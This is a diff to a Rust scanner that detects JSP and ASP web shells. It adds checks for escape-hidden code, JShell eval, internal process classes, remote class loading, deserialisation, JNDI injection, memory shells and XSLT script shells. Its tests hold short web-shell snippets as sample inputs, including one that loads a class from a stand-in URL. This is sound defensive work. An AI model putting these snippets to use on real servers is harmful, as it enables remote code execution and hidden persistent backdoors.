@@ -630,6 +630,72 @@ fn assembled_name(t: &str) -> Option<(usize, String)> {
 fn jsp(t: &str, hits: &mut Vec<Hit>) {
     jsp_fixed(t, hits);
     crate::flows::jsp(t, hits);
+    // `\u0052untime` is `Runtime` to the Java compiler, and `&#x52;` to a JSPX page's XML
+    // parser: read the page as they will, and say what the decoding revealed.
+    if let Some((first, decoded)) = java_unescaped(t) {
+        let mut revealed = Vec::new();
+        jsp_fixed(&decoded, &mut revealed);
+        crate::flows::jsp(&decoded, &mut revealed);
+        for mut h in revealed {
+            if hits.iter().any(|k| k.check == h.check) {
+                continue;
+            }
+            h.why = format!(
+                "{} (seen after decoding the page's \\u escapes or character references, which hide it from plain reading)",
+                h.why
+            );
+            h.offset = Some(first);
+            hits.push(h);
+        }
+    }
+}
+
+/// The page with Java `\uXXXX` escapes and XML character references (`&#x52;`, `&#82;`)
+/// decoded, and where the first was, when it has enough of them to hide code (eight or more).
+fn java_unescaped(t: &str) -> Option<(usize, String)> {
+    let count = t.matches("\\u").count() + t.matches("&#").count();
+    if count < 8 {
+        return None;
+    }
+    let mut out = String::with_capacity(t.len());
+    let mut first = None;
+    let mut rest = t;
+    while let Some(k) = rest.find(['\\', '&']) {
+        out.push_str(&rest[..k]);
+        let at = &rest[k..];
+        let decoded = if let Some(u) = at.strip_prefix("\\u") {
+            // Java allows any number of u's: \uuuu0041.
+            let hex = u.trim_start_matches('u');
+            hex.get(..4)
+                .and_then(|h| u32::from_str_radix(h, 16).ok())
+                .and_then(char::from_u32)
+                .map(|c| (c, at.len() - hex.len() + 4))
+        } else if let Some(r) = at.strip_prefix("&#") {
+            let (digits, radix) = match r.strip_prefix(['x', 'X']) {
+                Some(h) => (h, 16),
+                None => (r, 10),
+            };
+            let end = digits.find(';').filter(|&e| (1..=6).contains(&e));
+            end.and_then(|e| u32::from_str_radix(&digits[..e], radix).ok())
+                .and_then(char::from_u32)
+                .map(|c| (c, at.len() - digits.len() + end.unwrap_or(0) + 1))
+        } else {
+            None
+        };
+        match decoded {
+            Some((c, used)) => {
+                first.get_or_insert(t.len() - at.len());
+                out.push(c.to_ascii_lowercase());
+                rest = &at[used..];
+            }
+            None => {
+                out.push_str(&at[..1]);
+                rest = &at[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    first.map(|f| (f, out))
 }
 
 fn jsp_fixed(t: &str, hits: &mut Vec<Hit>) {
@@ -650,14 +716,99 @@ fn jsp_fixed(t: &str, hits: &mut Vec<Hit>) {
         ));
     }
     if request
-        && let Some(p) = t.find("scriptenginemanager")
+        && let Some(p) = t.find("scriptenginemanager").or_else(|| t.find("jshell"))
         && t.contains(".eval(")
     {
         hits.push(hit(
             "scan.heuristic.jsp_script_engine",
             Severity::Critical,
             "JSP evaluates request data with a script engine",
-            "the page hands request data to a JavaScript/Nashorn script engine's eval: arbitrary code".into(),
+            "the page hands request data to a script engine's or JShell's eval (JavaScript/Nashorn, Java snippets): arbitrary code".into(),
+            p,
+        ));
+    }
+    // The JDK's own process classes, reached by name: what Runtime.exec calls inside, used to
+    // slip past checks (and RASP hooks) on Runtime and ProcessBuilder. No page needs them.
+    if let Some(p) = [
+        "java.lang.processimpl",
+        "java.lang.unixprocess",
+        "processimpl\"",
+    ]
+    .iter()
+    .find_map(|m| t.find(m))
+    {
+        hits.push(hit(
+            "scan.heuristic.jsp_internal_process",
+            Severity::Critical,
+            "JSP starts processes through the JDK's internal process class",
+            "the page names java.lang.ProcessImpl/UNIXProcess, the class under Runtime.exec, to start commands without calling Runtime or ProcessBuilder".into(),
+            p,
+        ));
+    }
+    // Classes fetched from a URL and run, request data deserialised, a JNDI name from the
+    // request: ways to run code that never mention Runtime.
+    if let Some(p) = t.find("new urlclassloader(")
+        && t.contains("new url(")
+        && t.contains(".loadclass(")
+    {
+        hits.push(hit(
+            "scan.heuristic.jsp_remote_class",
+            Severity::Critical,
+            "JSP loads and runs classes from a URL",
+            "the page builds a URLClassLoader over a URL and loads a class from it: code fetched from elsewhere runs in the server".into(),
+            p,
+        ));
+    }
+    if request
+        && let Some(p) = ["new xmldecoder(", "new objectinputstream("]
+            .iter()
+            .find_map(|m| t.find(m))
+        && t.contains(".readobject(")
+    {
+        hits.push(hit(
+            "scan.heuristic.jsp_deserialize",
+            Severity::Critical,
+            "JSP deserialises request data",
+            "the page reads request data and deserialises objects from it (XMLDecoder/ObjectInputStream readObject): a serialized payload runs code".into(),
+            p,
+        ));
+    }
+    if request
+        && let Some(p) = t
+            .find("jdbcrowsetimpl")
+            .or_else(|| t.find("new initialcontext("))
+        && (t.contains(".setdatasourcename(") || t.contains(".lookup("))
+        && t.contains("trusturlcodebase")
+    {
+        hits.push(hit(
+            "scan.heuristic.jsp_jndi",
+            Severity::Critical,
+            "JSP looks up a JNDI name from the request with remote code allowed",
+            "the page turns on trustURLCodebase and looks up a name the request gives (JNDI injection): an LDAP/RMI server of the attacker's serves the class that runs".into(),
+            p,
+        ));
+    }
+    // A page that adds a filter, servlet, listener or WebSocket endpoint to the running server:
+    // the "memory shell", which answers on any URL and outlives the page's deletion.
+    let registers = [
+        ("addfilterdef(", "standardcontext"),
+        ("addfiltermap", "standardcontext"),
+        ("addservletmapping", "standardcontext"),
+        ("addapplicationeventlistener(", "standardcontext"),
+        ("addendpoint(", "servercontainer"),
+    ];
+    if let Some((p, call)) = registers
+        .iter()
+        .find_map(|(call, with)| t.find(call).filter(|_| t.contains(with)).map(|p| (p, call)))
+    {
+        hits.push(hit(
+            "scan.heuristic.jsp_memory_shell",
+            Severity::Critical,
+            "JSP registers a filter, servlet, listener or endpoint at run time",
+            format!(
+                "the page calls `{}` on the running server's context: a memory-resident shell that answers on any URL and survives the page being deleted",
+                call.trim_end_matches('(')
+            ),
             p,
         ));
     }
@@ -694,6 +845,26 @@ fn asp(t: &str, hits: &mut Vec<Hit>) {
 }
 
 fn asp_fixed(t: &str, hits: &mut Vec<Hit>) {
+    // An XSLT stylesheet with a script block that reaches a shell: run through
+    // MSXML's transformNode, it executes commands without a WScript.Shell line in the page.
+    if let Some(p) = t.find("msxsl:script")
+        && [
+            "wscript.shell",
+            "shell.application",
+            "process.start",
+            "diagnostics.process",
+        ]
+        .iter()
+        .any(|m| t.contains(m))
+    {
+        hits.push(hit(
+            "scan.heuristic.asp_xslt_exec",
+            Severity::Critical,
+            "ASP(X) runs commands from an XSLT script block",
+            "an msxsl:script block in a stylesheet the page builds starts a shell or process: commands run through the XML transform".into(),
+            p,
+        ));
+    }
     if let Some(p) = t.find("assembly.load(")
         && (t.contains("request.binaryread")
             || t.contains("request.form")
@@ -819,6 +990,77 @@ mod tests {
             .iter()
             .map(|h| h.check)
             .collect()
+    }
+
+    #[test]
+    fn jsp_techniques_without_a_runtime_call() {
+        let jshell = r#"<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("c")).get(0).value()%>"#;
+        assert!(ids(ScriptKind::Jsp, jshell).contains(&"scan.heuristic.jsp_script_engine"));
+        let internal = r#"<% Class c = Class.forName("java.lang.ProcessImpl"); Method m = c.getDeclaredMethod("start"); %>"#;
+        assert!(ids(ScriptKind::Jsp, internal).contains(&"scan.heuristic.jsp_internal_process"));
+        let filter = "<% StandardContext ctx = (StandardContext) req.getContext(); ctx.addFilterDef(def); ctx.addFilterMapBefore(map); %>";
+        assert_eq!(
+            ids(ScriptKind::Jsp, filter),
+            ["scan.heuristic.jsp_memory_shell"]
+        );
+        let endpoint = "<% ServerContainer sc = (ServerContainer) application.getAttribute(\"javax.websocket.server.ServerContainer\"); sc.addEndpoint(cfg); %>";
+        assert_eq!(
+            ids(ScriptKind::Jsp, endpoint),
+            ["scan.heuristic.jsp_memory_shell"]
+        );
+        // An application's own WebSocket endpoint class and a page that only reads its context.
+        let benign = "<% ServletContext ctx = request.getServletContext(); out.print(ctx.getServerInfo()); %>";
+        assert!(ids(ScriptKind::Jsp, benign).is_empty());
+    }
+
+    #[test]
+    fn jsp_code_behind_escapes_and_other_loaders() {
+        let plain = r#"<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>"#;
+        let escaped: String = plain
+            .chars()
+            .map(|c| {
+                if c.is_ascii_alphabetic() {
+                    format!("\\u{:04x}", c as u32)
+                } else {
+                    c.to_string()
+                }
+            })
+            .collect();
+        let found = scan_script(ScriptKind::Jsp, escaped.as_bytes());
+        assert!(
+            found.iter().any(|h| h.check == "scan.heuristic.jsp_exec"),
+            "{found:?}"
+        );
+        assert!(found.iter().any(|h| h.why.contains("decoding")));
+        let entities = "<jsp:scriptlet>&#x52;untime.getRuntime().exec(request.getParameter(\"c\"));&#59;&#59;&#59;&#59;&#59;&#59;&#59;</jsp:scriptlet>";
+        assert!(ids(ScriptKind::Jsp, entities).contains(&"scan.heuristic.jsp_exec"));
+        let remote = r#"<% out.print(new URLClassLoader(new URL[]{new URL("http://x.test/a.jar")}).loadClass("A").newInstance()); %>"#;
+        assert_eq!(
+            ids(ScriptKind::Jsp, remote),
+            ["scan.heuristic.jsp_remote_class"]
+        );
+        let xml = r#"<% XMLDecoder d = new XMLDecoder(new ByteArrayInputStream(request.getParameter("p").getBytes())); d.readObject(); %>"#;
+        assert_eq!(
+            ids(ScriptKind::Jsp, xml),
+            ["scan.heuristic.jsp_deserialize"]
+        );
+        let jndi = r#"<% System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase","true"); JdbcRowSetImpl r = new JdbcRowSetImpl(); r.setDataSourceName(request.getParameter("c")); r.setAutoCommit(true); %>"#;
+        assert_eq!(ids(ScriptKind::Jsp, jndi), ["scan.heuristic.jsp_jndi"]);
+        // A data source looked up by a fixed name, and i18n text in escapes, stay quiet.
+        let benign = r#"<% DataSource ds = (DataSource) new InitialContext().lookup("java:comp/env/jdbc/app"); String t = "\u4f60\u597d\u4e16\u754c\u4f60\u597d\u4e16\u754c"; out.print(request.getParameter("q") == null ? t : ""); %>"#;
+        assert!(
+            ids(ScriptKind::Jsp, benign).is_empty(),
+            "{:?}",
+            ids(ScriptKind::Jsp, benign)
+        );
+    }
+
+    #[test]
+    fn asp_xslt_script_shell() {
+        let page = r#"<% xslt="<msxsl:script language=""JScript"" implements-prefix=""z""> function x(c){var a=new ActiveXObject('wscript.shell'); return a.Exec(c).StdOut.ReadAll();}</msxsl:script>" %>"#;
+        assert_eq!(ids(ScriptKind::Asp, page), ["scan.heuristic.asp_xslt_exec"]);
+        let benign = r#"<msxsl:script language="C#" implements-prefix="u">public string up(string s){return s.ToUpper();}</msxsl:script>"#;
+        assert!(ids(ScriptKind::Asp, benign).is_empty());
     }
 
     #[test]
